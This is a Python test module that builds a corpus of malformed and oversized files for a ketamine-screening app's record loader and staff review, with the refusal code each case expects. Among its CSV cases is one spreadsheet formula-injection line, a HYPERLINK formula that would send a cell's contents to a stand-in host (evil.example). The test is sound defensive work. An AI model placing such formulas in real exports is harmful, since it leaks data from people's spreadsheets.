"""The hostile-file corpus: every kind of bad file the loaders must refuse, with the reason.

Each ``Case`` names a file, says what is wrong with it, builds its bytes, and gives the
problem code the core record loader (``screening.record.read_record``, used by the CLI
``score`` command and the wizard's "resume from a file") and the staff review
(``screening.review``, used by the staff page and ``python -m screening review``) must
answer with. The small files are committed under ``tests/data/hostile/`` so they can be
opened and read; the huge ones (10 MB, 10,000 rows, ...) are built at test time only.

    python -m tests.hostile          # rewrite the committed small files from this table

``CSV_CASES`` are spreadsheets in this product's CSV format: some rows are refused, and a
few cells are accepted as literal text (a formula or a line break inside a note is data).
"""

from __future__ import annotations

import copy
import io
import json
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from screening.record import build_record, dump_record

HERE = Path(__file__).parent
CORPUS = HERE / "data" / "hostile"
CREATED = datetime(2026, 11, 20, 9, 30, tzinfo=UTC)
MB = 1_000_000


def base_answers() -> dict[str, Any]:
    """Complete answers of the typical-trd vignette (a valid record, outcome discuss_ketamine)."""
    data = json.loads((HERE / "data" / "vignettes.json").read_text(encoding="utf-8"))
    return copy.deepcopy(next(v["answers"] for v in data if v["id"] == "typical-trd"))


def good_record() -> dict[str, Any]:
    """A valid record object."""
    return build_record(base_answers(), created_at=CREATED, app_version="0.1.0")


def good_bytes() -> bytes:
    """A valid record file."""
    return dump_record(good_record())


def _answers(**changes: Any) -> bytes:
    answers = base_answers()
    answers.update(changes)
    return json.dumps({"answers": answers}, ensure_ascii=False).encode("utf-8")


def _raw(text: str) -> Callable[[], bytes]:
    return lambda: text.encode("utf-8")


def _zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo("record.json", date_time=(2000, 1, 1, 0, 0, 0))
        archive.writestr(info, good_bytes())
    return buffer.getvalue()


def _pdf() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
        b"trailer << /Root 1 0 R >>\n%%EOF\n"
    )


def _many_keys() -> bytes:
    answers = {f"q{i:05d}": 1 for i in range(50_000)}
    return json.dumps({"answers": answers}).encode()


@dataclass(frozen=True)
class Case:
    """One hostile file and how each door refuses it."""

    name: str
    what: str
    make: Callable[[], bytes] = field(repr=False)
    record: str  # RecordError code from read_record
    review: str  # FileProblem code from the staff review
    huge: bool = False  # built at test time, never committed
    message: str = ""  # a phrase the record loader's message must contain

    def data(self) -> bytes:
        """The file's bytes: from the committed corpus, or built (huge cases)."""
        if self.huge:
            return self.make()
        return (CORPUS / self.name).read_bytes()


CASES: tuple[Case, ...] = (
    # --- not a record at all
    Case(
        "empty.json", "an empty file", lambda: b"", "record.empty", "review.empty", message="empty"
    ),
    Case(
        "whitespace.json",
        "only spaces and line breaks",
        lambda: b" \r\n\t \n",
        "record.empty",
        "review.empty",
    ),
    Case(
        "truncated.json",
        "a record cut off halfway",
        lambda: good_bytes()[: len(good_bytes()) // 2],
        "record.not_json",
        "review.not_json",
        message="not valid JSON",
    ),
    Case(
        "truncated-utf8.json",
        "a record cut off inside a two-byte character",
        lambda: _answers(display_name="Zoë")[: _answers(display_name="Zoë").index(b"\xc3") + 1],
        "record.not_utf8",
        "review.not_utf8",
    ),
    Case(
        "prose.json",
        "plain words, not JSON",
        _raw("Dear doctor, here are my answers: yes, no, yes.\n"),
        "record.not_json",
        "review.not_a_record",
    ),
    Case(
        "hello.json",
        "one word, not JSON",
        _raw("hello\n"),
        "record.not_json",
        "review.not_a_record",
    ),
    Case(
        "top-list.json",
        "a JSON list instead of an object",
        _raw("[1, 2, 3]\n"),
        "record.not_a_record",
        "review.not_a_record",
        message="found a list",
    ),
    Case(
        "top-string.json",
        "a JSON string",
        _raw('"answers"\n'),
        "record.not_a_record",
        "review.not_a_record",
    ),
    Case(
        "top-number.json",
        "a JSON number",
        _raw("42\n"),
        "record.not_a_record",
        "review.not_a_record",
    ),
    Case(
        "top-null.json", "JSON null", _raw("null\n"), "record.not_a_record", "review.not_a_record"
    ),
    Case(
        "answers-list.json",
        "answers is a list",
        _raw('{"answers": []}\n'),
        "record.invalid_answers",
        "review.invalid_answers",
    ),
    Case(
        "no-answers.json",
        "a record object without answers",
        _raw('{"format": "ketamine-screening-record", "format_version": 1}\n'),
        "record.no_answers",
        "review.no_answers",
    ),
    Case(
        "unknown-key.json",
        "an object that is something else",
        _raw('{"name": "Jo", "email": "jo@example.org"}\n'),
        "record.not_a_record",
        "review.not_a_record",
    ),
    # --- wrong types
    Case(
        "age-string.json",
        "a number written as text",
        lambda: _answers(age_years="45"),
        "record.invalid_answers",
        "review.invalid_answers",
        message="age_years",
    ),
    Case(
        "age-bool.json",
        "true instead of a number",
        lambda: _answers(age_years=True),
        "record.invalid_answers",
        "review.invalid_answers",
    ),
    Case(
        "item9-bool.json",
        "true instead of a PHQ-9 score (true == 1 in Python)",
        lambda: _answers(phq9_9=True),
        "record.invalid_answers",
        "review.invalid_answers",
        message="phq9_9",
    ),
    Case(
        "item9-string.json",
        "a PHQ-9 score written as text",
        lambda: _answers(phq9_9="3"),
        "record.invalid_answers",
        "review.invalid_answers",
    ),
    Case(
        "age-float.json",
        "45.0 instead of 45",
        _raw('{"answers": {"age_years": 45.0}}\n'),
        "record.invalid_answers",
        "review.invalid_answers",
    ),
    Case(
        "age-nan.json",
        "NaN",
        _raw('{"answers": {"age_years": NaN}}\n'),
        "record.not_json",
        "review.not_json",
        message="NaN",
    ),
    Case(
        "age-infinity.json",
        "-Infinity",
        _raw('{"answers": {"age_years": -Infinity}}\n'),
        "record.not_json",
        "review.not_json",
    ),
    Case(
        "age-1e400.json",
        "a float that overflows to infinity",
        _raw('{"answers": {"age_years": 1e400}}\n'),
        "record.invalid_answers",
        "review.invalid_answers",
    ),
    Case(
        "age-10e100.json",
        "10^100",
        lambda: _answers(age_years=10**100),
        "record.invalid_answers",
        "review.invalid_answers",
        message="out of range",
    ),
    Case(
        "age-5000-digits.json",
        "an integer with 5,000 digits (over Python's conversion limit)",
        lambda: b'{"answers": {"age_years": 1' + b"0" * 5000 + b"}}\n",
        "record.not_json",
        "review.not_json",
        message="too long",
    ),
    Case(
        "name-number.json",
        "a number where text belongs",
        lambda: _answers(display_name=12345),
        "record.invalid_answers",
        "review.invalid_answers",
    ),
    Case(
        "multi-string.json",
        "a single code where a list belongs",
        lambda: _answers(heart_conditions="angina"),
        "record.invalid_answers",
        "review.invalid_answers",
    ),
    # --- out of range, unknown, duplicated
    Case(
        "age-200.json",
        "age out of range",
        lambda: _answers(age_years=200),
        "record.invalid_answers",
        "review.invalid_answers",
        message="out of range",
    ),
    Case(
        "age-negative.json",
        "a negative age",
        lambda: _answers(age_years=-1),
        "record.invalid_answers",
        "review.invalid_answers",
    ),
    Case(
        "item9-4.json",
        "a PHQ-9 score above 3",
        lambda: _answers(phq9_9=4),
        "record.invalid_answers",
        "review.invalid_answers",
    ),
    Case(
        "unknown-code.json",
        "a code that is not on the list",
        lambda: _answers(sex_at_birth="robot"),
        "record.invalid_answers",
        "review.invalid_answers",
        message="not one of the codes",
    ),
    Case(
        "unknown-question.json",
        "an answer to a question that does not exist",
        lambda: _answers(favourite_colour="blue"),
        "record.invalid_answers",
        "review.invalid_answers",
        message="not a question",
    ),
    Case(
        "unknown-medication.json",
        "a medicine that is not on the list",
        lambda: _answers(ad_trials=[{**base_answers()["ad_trials"][0], "medication": "aspirin"}]),
        "record.invalid_answers",
        "review.invalid_answers",
    ),
    Case(
        "duplicate-code.json",
        "the same code twice in a list",
        lambda: _answers(heart_conditions=["angina", "angina"]),
        "record.invalid_answers",
        "review.invalid_answers",
        message="twice",
    ),
    Case(
        "duplicate-key.json",
        "the same question twice: PHQ-9 item 9 is 3, then 0 (parsers disagree on which wins)",
        _raw('{"answers": {"phq9_9": 3, "age_years": 40, "phq9_9": 0}}\n'),
        "record.not_json",
        "review.not_json",
        message="phq9_9",
    ),
    Case(
        "duplicate-key-trial.json",
        "the same sub-answer twice inside a trial",
        _raw('{"answers": {"ad_trials": [{"medication": "sertraline", "weeks": 2, "weeks": 12}]}}'),
        "record.not_json",
        "review.not_json",
    ),
    Case(
        "too-many-keys.json",
        "50,000 unknown questions",
        _many_keys,
        "record.invalid_answers",
        "review.invalid_answers",
        huge=True,
        message="more",
    ),
    # --- trials
    Case(
        "trials-object.json",
        "trials as one object, not a list",
        lambda: _answers(ad_trials={"medication": "sertraline", "weeks": 8}),
        "record.invalid_answers",
        "review.invalid_answers",
        message="ad_trials",
    ),
    Case(
        "trials-1000.json",
        "1,000 antidepressant trials (the limit is 15)",
        lambda: _answers(ad_trials=[base_answers()["ad_trials"][0]] * 1000),
        "record.invalid_answers",
        "review.invalid_answers",
        huge=True,
        message="limit is 15",
    ),
    Case(
        "trial-not-object.json",
        "a trial that is a number",
        lambda: _answers(ad_trials=[7]),
        "record.invalid_answers",
        "review.invalid_answers",
    ),
    # --- size and depth
    Case(
        "string-10mb.json",
        "a 10 MB name",
        lambda: _answers(display_name="x" * (10 * MB)),
        "record.too_large",
        "review.too_large",
        huge=True,
        message="limit",
    ),
    Case(
        "string-long.json",
        "a 5,000-character name (the limit is 100)",
        lambda: _answers(display_name="x" * 5000),
        "record.invalid_answers",
        "review.invalid_answers",
        message="limit is 100",
    ),
    Case(
        "deep-lists.json",
        "lists nested 5,000 deep",
        lambda: b"[" * 5000 + b"]" * 5000,
        "record.too_deep",
        "review.too_deep",
        huge=True,
        message="nested",
    ),
    Case(
        "deep-objects.json",
        "objects nested 5,000 deep inside answers",
        lambda: b'{"answers": ' + b'{"a": ' * 5000 + b"1" + b"}" * 5001,
        "record.too_deep",
        "review.too_deep",
        huge=True,
    ),
    Case(
        "deep-unclosed.json",
        "5,000 opening brackets and nothing else",
        lambda: b"[" * 5000,
        "record.too_deep",
        "review.too_deep",
        huge=True,
    ),
    # --- bytes that are not text
    Case(
        "nul-raw.json",
        "a raw NUL byte inside the JSON",
        lambda: _answers(display_name="AB").replace(b"AB", b"A\x00B"),
        "record.not_json",
        "review.binary",
    ),
    Case(
        "nul-escaped.json",
        "an escaped NUL character in the name",
        lambda: _answers(display_name="A\x00B"),
        "record.invalid_answers",
        "review.invalid_answers",
        message="NUL",
    ),
    Case(
        "lone-surrogate.json",
        "an escaped lone surrogate (\\ud800): valid JSON, not valid text",
        _raw('{"answers": {"display_name": "A\\ud800B"}}\n'),
        "record.not_utf8",
        "review.not_utf8",
    ),
    Case(
        "latin1.json",
        "Latin-1 text, not UTF-8",
        lambda: '{"answers": {"display_name": "José"}}\n'.encode("latin-1"),
        "record.not_utf8",
        "review.not_utf8",
        message="UTF-8",
    ),
    Case(
        "utf16.json",
        "a record saved as UTF-16",
        lambda: good_bytes().decode("utf-8").encode("utf-16"),
        "record.not_utf8",
        "review.binary",
    ),
    Case(
        "random-bytes.json",
        "random binary bytes",
        lambda: bytes(range(256)) * 4,
        "record.not_utf8",
        "review.binary",
    ),
    Case(
        "archive.json",
        "a ZIP archive renamed to .json",
        _zip,
        "record.not_utf8",
        "review.archive",
    ),
    Case(
        "summary.json",
        "a PDF renamed to .json",
        _pdf,
        "record.not_json",
        "review.archive",
    ),
    # --- wrong format or version
    Case(
        "wrong-format.json",
        "another program's format",
        _raw('{"format": "other-survey", "answers": {}}\n'),
        "record.wrong_format",
        "review.wrong_format",
        message="other-survey",
    ),
    Case(
        "version-2.json",
        "a future format version",
        _raw('{"format": "ketamine-screening-record", "format_version": 2, "answers": {}}\n'),
        "record.unsupported_version",
        "review.unsupported_version",
        message="format_version 2",
    ),
    Case(
        "version-string.json",
        "the format version as text",
        _raw('{"format_version": "1", "answers": {}}\n'),
        "record.unsupported_version",
        "review.unsupported_version",
    ),
    Case(
        "version-float.json",
        "the format version as 1.0",
        _raw('{"format_version": 1.0, "answers": {}}\n'),
        "record.unsupported_version",
        "review.unsupported_version",
    ),
    Case(
        "other-questionnaire.json",
        "a record of another questionnaire",
        _raw('{"questionnaire_id": "phq-only", "answers": {}}\n'),
        "record.wrong_questionnaire",
        "review.wrong_questionnaire",
    ),
    Case(
        "bad-status.json",
        "a status that does not exist",
        _raw('{"status": "approved", "answers": {}}\n'),
        "record.invalid_field",
        "review.invalid_field",
    ),
    Case(
        "bad-date.json",
        "a date that is not ISO 8601",
        _raw('{"created_at": "yesterday", "answers": {}}\n'),
        "record.invalid_field",
        "review.invalid_field",
    ),
    Case(
        "fhir-patient.json",
        "a FHIR Patient resource",
        _raw('{"resourceType": "Patient", "name": [{"text": "Jo"}]}\n'),
        "record.not_a_record",
        "review.not_fhir_response",
    ),
    Case(
        "fhir-garbage.json",
        "a FHIR QuestionnaireResponse with nonsense items",
        _raw('{"resourceType": "QuestionnaireResponse", "status": "completed", "item": "x"}\n'),
        "record.not_a_record",
        "review.invalid_fhir",
    ),
    Case(
        "fhir-answer-object.json",
        "a FHIR answer to PHQ-9 item 9 given as an object, not a list (was silently dropped)",
        _raw(
            '{"resourceType": "QuestionnaireResponse", "status": "completed", "item": '
            '[{"linkId": "phq9_9", "answer": {"valueCoding": {"code": "3"}}}]}\n'
        ),
        "record.not_a_record",
        "review.invalid_fhir",
    ),
)

CASE_BY_NAME = {case.name: case for case in CASES}


# --------------------------------------------------------------------------- CSV


def good_csv(records: int = 1) -> bytes:
    """A valid CSV export of ``records`` copies of the good record."""
    from screening.exports.csv import records_to_csv

    return records_to_csv([good_record()] * records)


def _csv_cells(**cells: str) -> bytes:
    """A one-row CSV export with some cells replaced by raw (unescaped) text."""
    import csv

    text = good_csv().decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text, newline="")))
    values = dict(zip(header, row, strict=True))
    values.update(cells)
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerow([values[h] for h in header])
    return out.getvalue().encode("utf-8")


def _csv_rows(rows: int) -> bytes:
    text = good_csv().decode("utf-8-sig")
    header, row = text.split("\r\n", 1)
    return (header + "\r\n" + row * rows).encode("utf-8")


def _csv_columns(columns: int, rows: int = 1) -> bytes:
    header = ",".join(f"c{i}" for i in range(columns))
    row = ",".join("1" for _ in range(columns))
    return (f"{header}\r\n" + f"{row}\r\n" * rows).encode()


def _csv_unbalanced_quote() -> bytes:
    text = good_csv().decode("utf-8-sig")
    header, row = text.split("\r\n", 1)
    return (header + "\r\n" + '"' + row).encode("utf-8")


@dataclass(frozen=True)
class CsvCase:
    """A spreadsheet: how many rows load and which problem codes the staff review gives."""

    name: str
    what: str
    make: Callable[[], bytes] = field(repr=False)
    loaded: int
    problems: tuple[str, ...]
    huge: bool = False

    def data(self) -> bytes:
        """The file's bytes: from the committed corpus, or built (huge cases)."""
        return self.make() if self.huge else (CORPUS / self.name).read_bytes()


FORMULA = '=HYPERLINK("https://evil.example/?q="&A1,"Click")'

CSV_CASES: tuple[CsvCase, ...] = (
    CsvCase(
        "formula-in-number.csv",
        "a formula where a number belongs",
        lambda: _csv_cells(age_years="=1+1"),
        0,
        ("review.invalid_csv",),
    ),
    CsvCase(
        "formula-in-code.csv",
        "a formula where PHQ-9 item 9 belongs",
        lambda: _csv_cells(phq9_9="@SUM(1)"),
        0,
        ("review.invalid_csv",),
    ),
    CsvCase(
        "formula-in-name.csv",
        "an unescaped formula as the name: loaded as literal text, escaped again on export",
        lambda: _csv_cells(display_name=FORMULA[:100]),
        1,
        (),
    ),
    CsvCase(
        "quotes-and-newlines.csv",
        "quotes, commas and line breaks inside a quoted note: loaded literally",
        lambda: _csv_cells(notes_for_clinician='He said "no", then\r\nlater: "yes, ok".\nEnd'),
        1,
        (),
    ),
    CsvCase(
        "unbalanced-quote.csv",
        "a row that opens a quote and never closes it",
        _csv_unbalanced_quote,
        0,
        ("review.invalid_csv",),
    ),
    CsvCase(
        "wrong-header.csv",
        "another spreadsheet's columns",
        lambda: b"name,age,email\r\nJo,40,jo@example.org\r\n",
        0,
        ("review.not_a_record",),
    ),
    CsvCase(
        "rows-10000.csv",
        "10,000 short rows (the limit is 5,000)",
        lambda: _csv_columns(3, rows=10_000),
        0,
        ("review.csv_too_many_rows",),
        huge=True,
    ),
    CsvCase(
        "export-10000.csv",
        "a real export of 10,000 records (about 5 MB; the limit is 1 MB a file)",
        lambda: _csv_rows(10_000),
        0,
        ("review.too_large",),
        huge=True,
    ),
    CsvCase(
        "columns-1000.csv",
        "1,000 columns (the limit is 300)",
        lambda: _csv_columns(1000),
        0,
        ("review.csv_too_many_columns",),
        huge=True,
    ),
)


def write_corpus(folder: Path = CORPUS) -> list[Path]:
    """Write every small case into ``folder`` (huge cases are never written)."""
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for case in (*CASES, *CSV_CASES):
        if case.huge:
            continue
        path = folder / case.name
        path.write_bytes(case.make())
        written.append(path)
    return written


if __name__ == "__main__":
    for path in write_corpus():
        print(path.relative_to(HERE.parent))
